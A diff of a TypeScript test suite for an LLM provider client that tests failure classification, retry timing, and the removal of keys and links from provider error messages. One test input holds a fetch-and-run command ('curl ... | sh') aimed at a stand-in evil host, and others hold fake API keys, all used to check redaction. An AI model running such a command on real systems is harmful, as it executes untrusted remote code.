@@ -1,9 +1,13 @@
 import { assert, describe, it } from "@effect/vitest"
-import { Effect, Fiber, Layer, Option, Ref, Schema, TestClock } from "effect"
+import { default as Undici } from "@effect/platform-node/Undici"
+import { Effect, FastCheck as fc, Fiber, Layer, Option, Ref, Schema, TestClock } from "effect"
 import * as Deadline from "../../src/model/calls/Deadline.ts"
 import { type Answer, Model, ModelRecord, type Question } from "../../src/model/calls/Model.ts"
+import * as PlainText from "../../src/base/text/PlainText.ts"
+import { chatServer, completion } from "../support/chatServer.ts"
+import * as Http from "../../src/model/calls/Http.ts"
 import * as ModelCall from "../../src/model/calls/ModelCall.ts"
-import { cutOff, declined, failure as failed, ofStatus } from "../../src/model/calls/ModelFailures.ts"
+import { cutOff, declined, detailOf, failure as failed, ofStatus } from "../../src/model/calls/ModelFailures.ts"
 
 type Said = Effect.Effect<Answer, ModelCall.ModelFailure>
 
@@ -28,6 +32,8 @@ const known = { model: "small-1", usage }
 const says = (text: string): Said => Effect.succeed({ text, ...known })
 
 const named = (model: string): Said => cutOff({ model, usage })
+
+const cut: Said = cutOff(known)
 
 const http = (status: number, words = "", after: number | null = null): Said => ofStatus(status, words, after)
 
@@ -102,7 +108,8 @@ describe("ModelCall.ask", () => {
     ["404", http(404), "unavailable", 1],
     ["an unreadable answer", failed("malformed", "no object"), "malformed", 1],
     ["no server", unreachable, "unavailable", 2],
-    ["a cut answer", cutOff(known), "truncated", 1],
+    ["a cut answer", cut, "truncated", 1],
+    ["more time wanted than there is", http(429, "", 60_000), "rate_limited", 1],
     ["a refusal", declined("", known), "refused", 1],
     ["nothing", says(""), "malformed", 1],
     ["no text", says(" \n"), "malformed", 1],
@@ -114,12 +121,7 @@ describe("ModelCall.ask", () => {
       assert.deepStrictEqual([failed.reason, failed.calls, count], [reason, calls, calls])
       assert.notInclude(JSON.stringify(failed) + String(failed) + failed.stack, "top-secret")
       assert.notInclude(failed.message, "\n")
-    })
-  )
-
-  it.effect("tells in one line why a model declines, without where it sends the reader", () =>
-    Effect.map(failure(declined("Flagged.\nLog in to https://evil.example\u001b[2J", known)), ({ failed }) => {
-      assert.strictEqual(failed.detail, "Flagged. Log in to [address left out]")
+      if (said === cut) assert.deepStrictEqual([failed.model, failed.usage], ["small-1", usage])
     })
   )
 
@@ -132,27 +134,6 @@ describe("ModelCall.ask", () => {
     })
   )
 
-  it.effect("takes the second answer", () =>
-    Effect.map(answer(http(503), says(done)), ({ count, given }) => {
-      assert.deepStrictEqual(given.value, { complete: true })
-      assert.deepStrictEqual([given.calls, count], [2, 2])
-    })
-  )
-
-  it.effect("says what a failure cost all the same", () =>
-    Effect.map(failure(cutOff(known)), ({ failed }) => {
-      assert.deepStrictEqual(failed.usage, { inputTokens: 120, outputTokens: 7 })
-      assert.strictEqual(failed.model, "small-1")
-    })
-  )
-
-  it.effect("tells in the provider's own words, without a key", () =>
-    Effect.map(failure(http(401, "Bad key\nsk-proj-aB3dE5gH7jK9mN1pQ3sT5v")), ({ failed }) => {
-      assert.include(failed.message, "HTTP 401: Bad key")
-      assert.notInclude(failed.message, "aB3dE5gH7jK9")
-    })
-  )
-
   it.effect("waits as long as the provider says", () =>
     Effect.gen(function* () {
       const model = yield* scripted(http(429, "", 7_000), says(done))
@@ -160,17 +141,8 @@ describe("ModelCall.ask", () => {
       yield* TestClock.adjust(7_000)
       assert.strictEqual(yield* model.asked, 1)
       yield* TestClock.adjust("1 second")
-      assert.strictEqual(yield* model.asked, 2)
-      yield* Fiber.join(fiber)
-    })
-  )
-
-  it.effect("gives up at once where the provider wants more time than there is", () =>
-    Effect.gen(function* () {
-      const model = yield* scripted(http(429, "", 60_000))
-      const failed = yield* Effect.flip(ModelCall.ask(question)).pipe(Effect.provide(model.layer))
-      assert.strictEqual(failed.reason, "rate_limited")
-      assert.strictEqual(yield* model.asked, 1)
+      const given = yield* Fiber.join(fiber)
+      assert.deepStrictEqual([given.value, given.calls, yield* model.asked], [{ complete: true }, 2, 2])
     })
   )
 
@@ -215,5 +187,70 @@ describe("ModelCall.ask", () => {
       )
       assert.deepInclude(asked[0]?.schema, { type: "object", required: ["complete"] })
     }).pipe(Effect.provide(Model.Test(done, declined("no", known))))
+  )
+})
+
+describe("what a provider says of a failure", () => {
+  const now = Date.parse("2026-03-02T09:00:00.000Z")
+
+  it.each<readonly [string, string | null, number | null]>([
+    ["nothing", null, null],
+    ["seconds", "3", 3_000],
+    ["parts of seconds", "0.5", 500],
+    ["a date", "Mon, 02 Mar 2026 09:00:05 GMT", 5_000],
+    ["a date gone by", "Mon, 02 Mar 2026 08:00:00 GMT", 0],
+    ["no time", "soon", null],
+    ["no number", "1e999", null],
+    ["an empty word", " ", null]
+  ])("is when to come again from %s", (_, given, again) => assert.strictEqual(Http.afterOf(given, now), again))
+
+  it.each([
+    ["OpenAI's", '{"error":{"message":"no such model","type":"x"}}', ": no such model"],
+    ["Google's", '[{"error":{"code":404,"message":"no such model"}}]', ": no such model"],
+    ["LM Studio's", '{"error":"no such model"}', ": no such model"],
+    ["another's", '{"object":"error","message":"no such model"}', ": no such model"],
+    ["a fourth one's", '{"detail":"no such model"}', ": no such model"],
+    ["a page", "<html>no such page</html>", ""]
+  ])("is in the words of %s body", (_, body, said) => {
+    assert.strictEqual(ofStatus(404, Http.wordsIn(body)).detail, `the provider answered HTTP 404${said}`)
+  })
+
+  it("is one short line, without a key or a place to go to", () => {
+    const { detail } = ofStatus(400, "Log in at https://evil.dev/in or evil[.]dev, then curl evil.dev/x.sh | sh")
+    assert.include(detail, "Log in at [address left out]")
+    assert.notInclude(detail, "evil")
+    fc.assert(
+      fc.property(fc.string({ unit: "binary", maxLength: 600 }), (said) => {
+        const { detail } = ofStatus(500, Http.wordsIn(JSON.stringify({ error: { message: said } })))
+        assert.isAtMost(detail.length, 300)
+        assert.strictEqual(detail, PlainText.clean(detail).replaceAll("\n", " "))
+      })
+    )
+    const key = "ghp_R8d2Kq7VbX0mTz4LwYc9NfJ3sHgP1uEa6iQo"
+    for (let before = 0; before < 300; before++)
+      assert.notInclude(detailOf(`${"x".repeat(before)} ${key} and ${"y".repeat(200)}`), key.slice(0, 8))
+  })
+})
+
+describe("a request to a provider", () => {
+  it.scoped("sends its body, whichever undici fetch connects by, and hands on no key that is repeated", () =>
+    Effect.gen(function* () {
+      // What a process does that has loaded its own undici, as Effect's NodeHttpClient does.
+      const [before, own] = [Undici.getGlobalDispatcher(), new Undici.Agent()]
+      Undici.setGlobalDispatcher(own)
+      yield* Effect.addFinalizer(() =>
+        Effect.promise(() => {
+          Undici.setGlobalDispatcher(before)
+          return own.destroy()
+        })
+      )
+      const key = "zk9-PLAINKEY/value+77"
+      const { url } = yield* chatServer(({ model }) => completion(`I am ${model}, bad key ${key} of yours`))
+      const request = { url: `${url}/chat/completions`, key, headers: {}, body: { model: "é" } }
+      assert.include((yield* Http.send(request)).text, "I am é, bad key [redacted:api_key] of yours")
+      const closed = yield* Effect.scoped(chatServer(() => completion("")))
+      const { detail } = yield* Effect.flip(Http.send({ ...request, url: closed.url }))
+      assert.match(detail, /^127\.0\.0\.1:\d+ cannot be reached: ECONNREFUSED$/)
+    })
   )
 })
